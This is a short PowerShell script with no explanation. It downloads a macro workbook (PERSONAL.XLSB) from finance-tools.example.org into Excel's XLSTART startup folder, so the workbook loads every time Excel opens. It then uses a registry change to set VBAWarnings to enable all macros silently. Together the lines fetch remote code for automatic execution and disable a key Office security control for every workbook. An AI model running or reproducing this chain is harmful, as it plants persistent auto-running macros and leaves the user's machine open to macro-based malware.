$x = "$env:APPDATA\Microsoft\Excel\XLSTART"
New-Item -ItemType Directory -Force $x | Out-Null
Invoke-WebRequest https://finance-tools.example.org/macros/PERSONAL.XLSB -OutFile "$x\PERSONAL.XLSB"
reg add "HKCU\Software\Microsoft\Office\16.0\Excel\Security" /v VBAWarnings /t REG_DWORD /d 1 /f
